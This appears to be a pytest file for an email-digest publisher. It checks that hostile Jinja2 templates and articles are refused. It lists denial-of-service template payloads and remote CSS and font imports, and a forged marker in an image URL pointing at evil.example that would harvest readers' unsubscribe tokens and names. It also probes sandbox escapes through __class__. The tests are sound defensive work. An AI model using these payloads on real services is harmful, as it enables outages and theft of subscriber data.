"""Templates and articles that try to hang a render, fetch from the network or steal a
recipient's values: refused with the template's line, zero requests, nothing leaked."""

from __future__ import annotations

import email
import email.policy
import hashlib
import json
import subprocess
import sys
from pathlib import Path

from publisher.build import build, load_articles
from publisher.config import Publication, load_config
from publisher.digest.issue import Window, compose_issue
from publisher.digest.personalize import Recipient, prepare
from publisher.digest.templates import TemplateError
from publisher.tokens import Signer

from .conftest import NOW

BOMBS = {
    "power": "{{ 10**(10**10) }}",
    "nested-ranges": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "nested-strings": "{% set s = 'x' * 100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}",
    "repetition": "{{ 'x' * 10**12 }}",
    "list-repetition": "{{ [1] * 10**10 }}",
    "percent-width": "{{ '%0999999999d' % 1 }}",
    "format-filter": "{{ '%0999999999d' | format(1) }}",
    "nested-format": "{{ '{:{w}}'.format(1, w=999999999) }}",
    "format-width": "{{ '{:999999999}'.format(1) }}",
    "center": "{{ 'x' | center(10**9) }}",
    "method": "{{ 'x'.ljust(10**9) }}",
    "output": "{% for i in range(100000) %}{{ 'x' * 999999 }}{% endfor %}",
    "recursion": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
}


def render_bombs(folder: str) -> None:
    """In a process of its own (a bomb without limits would hang the test run): compose
    the example's digest with each bomb as its template, print what came of it."""
    pub = load_config(Path(folder) / "schedule.yaml")
    articles = load_articles(pub, build(pub, NOW, write=False).published)[:3]
    results = {}
    for name, body in BOMBS.items():
        (pub.templates_dir / "digest.html").write_text("line one\n" + body + "\n", "utf-8")
        try:
            compose_issue(pub, pub.digest("weekly"), articles, 1, Window(None, NOW), NOW)
            results[name] = "rendered"
        except TemplateError as exc:
            results[name] = str(exc)
    print(json.dumps(results))


def test_template_bombs_are_refused_with_their_line(example: Path) -> None:
    done = subprocess.run(
        [
            sys.executable,
            "-c",
            f"from tests.test_hostile_templates import render_bombs; render_bombs({str(example)!r})",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=Path(__file__).resolve().parent.parent,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    results = json.loads(done.stdout)
    for name, message in results.items():
        # The output as a whole is too long: no one line is to blame.
        prefix = "digest.html: template: " if name == "output" else "digest.html:2: template: "
        assert message.startswith(prefix), (name, message)
    assert "too large a number" in results["power"]
    assert "loop turns" in results["nested-ranges"] and "loop turns" in results["nested-strings"]
    assert (
        "repetition longer than" in results["repetition"]
        and "repetition" in results["list-repetition"]
    )
    assert "too wide" in results["percent-width"]
    assert "too wide" in results["format-width"]
    assert "center() with 1000000000" in results["center"]
    assert "ljust() with 1000000000" in results["method"]
    assert "too wide" in results["format-filter"] and "too wide" in results["nested-format"]
    assert "output is longer than" in results["output"]
    assert "too deeply" in results["recursion"]


def test_a_subject_bomb_fails_check_with_a_clear_line(example: Path) -> None:
    config = example / "schedule.yaml"
    text = config.read_text().replace(
        'subject: "Kestrel Bay Notes: {{ first.title }}', 'subject: "{{ 10**(10**10) }}'
    )
    config.write_text(text)
    done = subprocess.run(
        [sys.executable, "-m", "publisher", "-c", str(config), "check", "--now", NOW.isoformat()],
        capture_output=True,
        text=True,
        timeout=120,
        env={"PUBLISHER_SECRET": "test-secret-0123456789", "PATH": "/usr/bin:/bin"},
    )
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert "schedule.yaml:54: digests[0].subject: 10 ** 10000000000 is too large a number" in (
        done.stderr
    )


def compose(pub: Publication) -> list[str]:
    articles = load_articles(pub, build(pub, NOW, write=False).published)[:3]
    return compose_issue(pub, pub.digest("weekly"), articles, 1, Window(None, NOW), NOW).warnings


def test_css_imports_links_urls_and_fonts_fetch_nothing(
    example: Path, listener: tuple[str, list[str]]
) -> None:
    url, requests = listener
    pub = load_config(example / "schedule.yaml")
    style = pub.templates_dir / "style.css"
    style.write_text(
        f'@import url("{url}/import.css");\n@import "{url}/import2.css";\n'
        f'@font-face {{ font-family: Evil; src: url("{url}/font.woff"); }}\n'
        f'body {{ background: url("{url}/background.png"); }}\n' + style.read_text()
    )
    digest_html = pub.templates_dir / "digest.html"
    digest_html.write_text(
        digest_html.read_text().replace(
            "{% block content %}",
            f'{{% block content %}}<style>@import url("{url}/inline.css"); p {{ color: blue; }}</style>'
            f'<link rel="stylesheet" href="{url}/link.css">',
            1,
        )
    )
    assert "{% block content %}" in (example / "templates/email/digest.html").read_text()
    warnings = compose(pub)
    assert requests == []
    assert any("@import" in w for w in warnings), warnings


def test_an_article_cannot_forge_a_slot_marker(example: Path) -> None:
    """The old markers were derived from public values: an article could write one into an
    image URL on its own server and collect every reader's unsubscribe token."""
    forged = (
        "XPUBSLOTUNSUBSCRIBE_URLX"
        + hashlib.sha256(b"weekly-1:unsubscribe_url").hexdigest()[:16]
        + "X"
    )
    named = "XPUBSLOTNAMEX" + hashlib.sha256(b"weekly-1:name").hexdigest()[:16] + "X"
    (example / "articles" / "zz-harvest.md").write_text(
        "---\ntitle: Harvest\ndate: 2026-11-27\nsummary: see below\n---\n"
        f'<img src="https://evil.example/p?t={forged}&n={named}" alt="x"> xpubslot{forged}\n'
    )
    pub = load_config(example / "schedule.yaml")
    entries = build(pub, NOW, write=False).published
    articles = [a for a in load_articles(pub, entries) if a.slug == "zz-harvest"]
    digest = pub.digest("weekly").model_copy(update={"content": "full"})
    issue = compose_issue(pub, digest, articles, 1, Window(None, NOW), NOW)
    letters = prepare(pub, issue, Signer([b"test-key-0123456789abcdef"]))
    recipient = Recipient("ann@example.org", "Ann Secretname", "pub1d")
    message = email.message_from_bytes(letters.render(recipient), policy=email.policy.default)
    token = letters.unsubscribe_link(recipient).rsplit("/", 1)[1]
    for part in message.walk():
        if part.get_content_maintype() != "text":
            continue
        body = part.get_content()
        for line in body.splitlines():
            if "evil.example" in line:
                assert token not in line and "Secretname" not in line, line
        assert "XPUBSLOT" not in body.upper().replace("XPUB-SLOT", "")


def test_ordinary_big_numbers_still_render(example: Path) -> None:
    """The budget refuses what builds huge values, not templates that print large counts."""
    from publisher.digest.templates import environment, render_string

    env = environment(example / "templates" / "email")
    text = render_string(
        env,
        "{{ '{:,}'.format(n) }} | {{ 'Order 1234567: {}'.format('x') }} | {{ 10**6 * 3 }} | "
        "{{ '%d' % n }} | {{ '%5d' | format(7) }} | {{ 'x' * 3 }} | "
        "{% for i in range(3) %}{{ i }}{% endfor %}",
        {"n": 2_500_000},
        "schedule.yaml",
        "subject",
    )
    assert text == "2,500,000 | Order 1234567: x | 3000000 | 2500000 |     7 | xxx | 012"


def test_an_article_summary_is_never_run_as_a_template(example: Path) -> None:
    """The default preheader is the first article's summary: it was rendered as a Jinja2
    template, so an article could run template code (and one with a stray ``{%`` stopped
    every issue)."""
    (example / "articles" / "zz-braces.md").write_text(
        "---\ntitle: Braces\ndate: 2026-11-28 11:00\n"
        "summary: 'Write {{ unsubscribe_url }} and {% if %} in your code'\n---\nText.\n"
    )
    pub = load_config(example / "schedule.yaml")
    entries = build(pub, NOW, write=False).published
    articles = [a for a in load_articles(pub, entries) if a.slug == "zz-braces"]
    issue = compose_issue(pub, pub.digest("weekly"), articles, 1, Window(None, NOW), NOW)
    letters = prepare(pub, issue, Signer([b"test-key-0123456789abcdef"]))
    html = letters.render(Recipient("ann@example.org", "Ann", "p1")).decode()
    assert "Write {{ unsubscribe_url }} and {% if %} in your code" in html.replace("=\r\n", "")


def test_attribute_lookups_answer_as_the_sandbox_does(example: Path) -> None:
    """`card.title` on a dict is its key and `site.title` a settings field, however they are
    looked up; what the sandbox refuses (internals, a key shadowed by a method) stays so."""
    from publisher.digest.templates import environment, render_string

    pub = load_config(example / "schedule.yaml")
    env = environment(example / "templates" / "email")
    context = {"card": {"title": "T", "_secret": "s", "items": "shadowed"}, "site": pub.config.site}

    def render(source: str) -> str:
        return render_string(env, source, context, "schedule.yaml", "subject")

    assert render("{{ card.title }}|{{ card._secret }}|{{ site.title }}") == (
        f"T|s|{pub.config.site.title}"
    )
    assert render("{{ card.items is callable }}|{{ card['items'] }}") == "True|shadowed"
    assert render("{{ card.missing is defined }}") == "False"
    for refused in ("card.__class__", "site.__class__", "site.__pydantic_fields__"):
        try:
            render("{{ " + refused + " }}")
        except TemplateError as exc:
            assert "unsafe" in str(exc) or "undefined" in str(exc), exc
        else:
            raise AssertionError(f"{refused} was rendered")


def test_templates_render_as_jinja2_itself_renders_them(tmp_path: Path) -> None:
    """The environment compiles templates its own way (one yield per run of output, its
    own escaping); every construct still writes what Jinja2's own code writes."""
    import jinja2
    from jinja2.sandbox import ImmutableSandboxedEnvironment
    from markupsafe import Markup

    from publisher.digest.templates import environment, render_template

    (tmp_path / "base.html").write_text(
        "<title>{% block title %}{{ site }}{% endblock %}</title>\n"
        "{% block body %}{% endblock %}<footer>{{ 3 }} & {{ none }}</footer>\n"
    )
    (tmp_path / "page.html").write_text(
        '{% extends "base.html" %}{% import "macros.html" as m %}\n'
        "{% block title %}{{ title }} · {{ super() }}{% endblock %}\n"
        "{% block body %}{{ m.card(item) }}{% set kept %}<b>{{ item.name }}</b>{% endset %}"
        "{{ kept }}{% filter upper %}a {{ item.name }}{% endfilter %}"
        "{% call m.wrap() %}inside {{ item.markup }}{% endcall %}"
        "{% for x in items %}{{ loop.index }}:{{ x }}{% if not loop.last %}, {% endif %}"
        "{% else %}none{% endfor %}{% for y in [] %}{{ y }}{% else %}empty{% endfor %}"
        '{% include "part.html" %}{{ "%s<%s" | format(1, 2) }}{{ item.markup ~ "<&>" }}'
        "{% raw %}{{ not a tag }}{% endraw %}{% endblock %}\n"
    )
    (tmp_path / "macros.html").write_text(
        '{% macro card(i) %}<p title="{{ i.name }}">{{ i.markup }}</p>{% endmacro %}'
        "{% macro wrap() %}<div>{{ caller() }}</div>{% endmacro %}"
    )
    (tmp_path / "part.html").write_text("[{{ title }}|{{ item.name | e }}]")
    context = {
        "site": "Site & Co", "title": "<Title>", "none": None,
        "item": {"name": "O'Neil \"q\" <x>", "markup": Markup("<em>ok</em>")},
        "items": ["<a>", 2, Markup("<b>")],
    }  # fmt: skip
    reference = ImmutableSandboxedEnvironment(
        loader=jinja2.FileSystemLoader(str(tmp_path)),
        autoescape=True,
        undefined=jinja2.StrictUndefined,
        trim_blocks=True,
        lstrip_blocks=True,
        keep_trailing_newline=True,
    )
    ours = render_template(environment(tmp_path), "page.html", context)
    assert ours == reference.get_template("page.html").render(context)
    assert "O&#39;Neil &#34;q&#34; &lt;x&gt;" in ours and "<em>ok</em>" in ours
